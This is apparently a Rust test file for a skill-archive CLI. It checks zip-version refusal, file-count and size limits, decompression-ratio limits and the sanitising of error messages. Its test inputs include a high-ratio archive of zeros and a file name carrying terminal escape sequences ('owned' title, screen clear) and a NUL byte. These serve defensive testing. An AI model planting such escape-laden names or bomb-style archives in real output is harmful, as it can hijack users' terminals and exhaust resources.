fn an_entry_needing_a_later_zip_version_is_refused_as_unzip_skips_it() {
    let md = SKILL_MD.replace("two", "later");
    let archive = |version: u16| {
        zip(&[
            Raw::file("later/SKILL.md", md.as_bytes()),
            Raw::file("later/notes.md", &notes()).both(|f| f.version = version),
        ])
    };
    let dir = tempdir();
    let d = dir.path();
    std::fs::write(d.join("later.skill"), archive(63)).unwrap();
    std::fs::write(d.join("later64.skill"), archive(64)).unwrap();
    // `unzip` extracts `SKILL.md` and skips the notes.
    let out = skills_tests::tool("unzip", "unzip")
        .current_dir(d)
        .args(["later.skill", "-d", "unzipped"])
        .output()
        .unwrap();
    assert!(
        text(&out).contains("need PK compat. v6.3"),
        "{}",
        text(&out)
    );
    assert!(d.join("unzipped/later/SKILL.md").is_file());
    assert!(!d.join("unzipped/later/notes.md").exists());
    std::fs::remove_dir_all(d.join("unzipped")).unwrap();
    // Python's zipfile refuses the archive over 6.3.
    let out = skills_tests::tool("python3", "python3")
        .current_dir(d)
        .args(["-c", "import zipfile; zipfile.ZipFile('later64.skill')"])
        .output()
        .unwrap();
    assert!(
        !out.status.success() && text(&out).contains("zip file version 6.4"),
        "{}",
        text(&out)
    );
    for (file, version) in [("later.skill", "6.3"), ("later64.skill", "6.4")] {
        let stderr = format!(
            "skb: {file}: entry `later/notes.md` needs zip version {version} to extract; this reader supports up to 2.0 (stored and deflate)\n"
        );
        let commands: [&[&str]; 4] = [
            &["validate", file],
            &["inspect", file],
            &["unpack", file, "-o", "out"],
            &["pack", file, "-o", "later.skillpack"],
        ];
        assert_eq!(refused_by_each(d, &commands, &stderr), Vec::<String>::new());
    }
    assert_eq!(listing(d), ["later.skill", "later64.skill"]);
}

/// Runs a tool; it must succeed.
fn run_ok_tool(command: &mut Command) {
    let output = command.output().unwrap();
    assert!(output.status.success(), "{}", text(&output));
}

/// Issue 17, item 6, as reported: a skill of 10,001 files (`SKILL.md`,
/// 9,999 notes, then the skill's own script, last in sorted order). It
/// got warning SK007, and `pack` exited 0 with a pack that verified but
/// lacked the script. `validate` now fails with error SK007 naming
/// `--max-files`, and `pack` exits 1 writing nothing; with the limit
/// raised, every file is packed, the script included.
#[test]
fn a_skill_of_10_001_files_fails_validate_and_pack_writes_nothing() {
    let dir = tempdir();
    let d = dir.path();
    let skill = d.join("many");
    std::fs::create_dir_all(skill.join("notes")).unwrap();
    std::fs::create_dir_all(skill.join("scripts")).unwrap();
    let md = "---\nname: many\ndescription: Many notes. Use when testing limits.\n---\nRun scripts/run.sh.\n";
    std::fs::write(skill.join("SKILL.md"), md).unwrap();
    for i in 0..9_999 {
        std::fs::write(skill.join(format!("notes/n{i:05}.md")), i.to_string()).unwrap();
    }
    std::fs::write(skill.join("scripts/run.sh"), RUN_SH).unwrap();
    skills_tests::set_mode(&skill.join("scripts/run.sh"), 0o755);
    let error = "error[SK007]: `many` has more than 10,000 files, the limit; raise it with `--max-files`\n --> many/scripts/run.sh\n";

    let output = run(d, &["validate", "many"]);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(1), "{}", text(&output));
    assert!(stdout.starts_with(error), "{stdout}");
    assert!(stdout.contains("0 valid, 1 invalid (1 error)"), "{stdout}");

    for args in [
        &["pack", "many", "-o", "many.skillpack"][..],
        &["pack", "many", "--format", "skill", "-o", "out"],
    ] {
        let output = run(d, args);
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(1), "{args:?}: {}", text(&output));
        assert!(stderr.starts_with(error), "{args:?}: {stderr}");
        assert!(stderr.ends_with("skb: nothing was written\n"), "{stderr}");
        assert_eq!(listing(d), ["many"], "{args:?} left something behind");
    }

    let output = run(
        d,
        &[
            "pack",
            "many",
            "-o",
            "many.skillpack",
            "--max-files",
            "10001",
        ],
    );
    assert!(output.status.success(), "{}", text(&output));
    let output = run(d, &["inspect", "many.skillpack", "--format", "json"]);
    let doc: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let files = doc["skills"][0]["files"].as_array().unwrap();
    assert_eq!(files.len(), 10_001);
    assert_eq!(files[10_000]["path"], "scripts/run.sh");
    assert_eq!(files[10_000]["mode"], "0755");
}

/// Each limit, hit by an archive within the defaults: refused naming its
/// flag, accepted once the flag raises it.
#[test]
fn each_limit_is_named_and_raised_by_its_flag() {
    let dir = tempdir();
    let d = dir.path();
    let skill = zip(&[
        Raw::file("two/SKILL.md", SKILL_MD.as_bytes()),
        Raw::file("two/references/notes.md", &notes()),
    ]);
    let md_size = SKILL_MD.len();
    std::fs::write(d.join("two.skill"), &skill).unwrap();
    let zeros = zip(&[
        Raw::file("two/SKILL.md", SKILL_MD.as_bytes()),
        Raw::file("two/zeros.bin", &vec![0; 4 << 20]),
    ]);
    std::fs::write(d.join("zeros.skill"), &zeros).unwrap();
    let zeros_compressed = decode(&zeros)[1].central.compressed;
    let rows: [(&str, &[&str], &[&str], String); 9] = [
        (
            "a file over `--max-entry-size 100`",
            &["validate", "two.skill", "--max-entry-size", "100"],
            &["validate", "two.skill", "--max-entry-size", "1KiB"],
            format!(
                "skb: two.skill: entry `two/SKILL.md` is {md_size} bytes; the limit is 100; if the archive is trusted, raise the limit with `--max-entry-size`\n"
            ),
        ),
        (
            "files over `--max-total-size 1KiB`",
            &[
                "verify",
                "--unsigned",
                "p.skillpack",
                "--max-total-size",
                "1KiB",
            ],
            &[
                "verify",
                "--unsigned",
                "p.skillpack",
                "--max-total-size",
                "1MiB",
            ],
            String::new(),
        ),
        (
            "4 MiB of zeros, over the default `--max-ratio`",
            &["unpack", "zeros.skill", "-o", "out"],
            &["unpack", "zeros.skill", "-o", "out", "--max-ratio", "2000"],
            format!(
                "skb: zeros.skill: entry `two/zeros.bin` inflates {zeros_compressed} bytes to 4194304, a ratio over the limit of 100; if the archive is trusted, raise the limit with `--max-ratio`\n"
            ),
        ),
        (
            "an archive of 2 entries over `--max-entries 1`",
            &["validate", "two.skill", "--max-entries", "1"],
            &["validate", "two.skill", "--max-entries", "2"],
            "skb: two.skill: the archive has 2 entries; the limit is 1; if the archive is trusted, raise the limit with `--max-entries`\n".into(),
        ),
        (
            "a skill of 2 files over `--max-files 1`",
            &["validate", "two.skill", "--max-files", "1"],
            &["validate", "two.skill", "--max-files", "2"],
            String::new(),
        ),
        (
            "a skill over `--max-skill-size 100`, unpacked",
            &["unpack", "two.skill", "-o", "out2", "--max-skill-size", "100"],
            &["unpack", "two.skill", "-o", "out2", "--max-skill-size", "1KiB"],
            String::new(),
        ),
        (
            "a skill with a file one level down, over `--max-skill-depth 0`, packed",
            &[
                "pack",
                "two.skill",
                "-o",
                "deep.skillpack",
                "--max-skill-depth",
                "0",
            ],
            &[
                "pack",
                "two.skill",
                "-o",
                "deep.skillpack",
                "--max-skill-depth",
                "1",
            ],
            String::new(),
        ),
        (
            "a pack of 4 entries over `--max-entries 3`, verified",
            &["verify", "--unsigned", "p.skillpack", "--max-entries", "3"],
            &["verify", "--unsigned", "p.skillpack", "--max-entries", "4"],
            String::new(),
        ),
        (
            "a pack whose file is over `--max-entry-size 100`, not written",
            &[
                "pack",
                "two.skill",
                "-o",
                "big.skillpack",
                "--max-entry-size",
                "100",
            ],
            &[
                "pack",
                "two.skill",
                "-o",
                "big.skillpack",
                "--max-entry-size",
                "2KiB",
            ],
            String::new(),
        ),
    ];
    std::fs::write(d.join("p.skillpack"), &base().pack).unwrap();
    let mut failed = Vec::new();
    for (name, refused, raised, stderr) in rows {
        let output = run(d, refused);
        let shown = text(&output);
        let says = if stderr.is_empty() {
            let flag = refused[refused.len() - 2];
            shown.contains(&format!("raise the limit with `{flag}`"))
        } else {
            String::from_utf8_lossy(&output.stderr) == stderr
        };
        if output.status.code() != Some(1) || !says {
            failed.push(format!("{name}: exit {:?}: {shown}", output.status.code()));
        }
        let output = run(d, raised);
        if !output.status.success() {
            failed.push(format!("{name}, raised: {}", text(&output)));
        }
    }
    assert_eq!(failed, Vec::<String>::new());
}

/// Hostile names reach error messages, which end up on terminals: a name's
/// control characters (NUL, ESC) must not be printed as they are.
#[test]
fn error_messages_do_not_print_control_characters() {
    let b = base();
    for name in ["two/a\0b", "two/\x1b]0;owned\x07\x1b[2J"] {
        let bytes = b.patched(2, |r| r.rename(name.as_bytes()));
        let message = Pack::open(&bytes, Trust::Unsigned).unwrap_err().to_string();
        assert!(!message.chars().any(char::is_control), "{message:?}");
    }
}
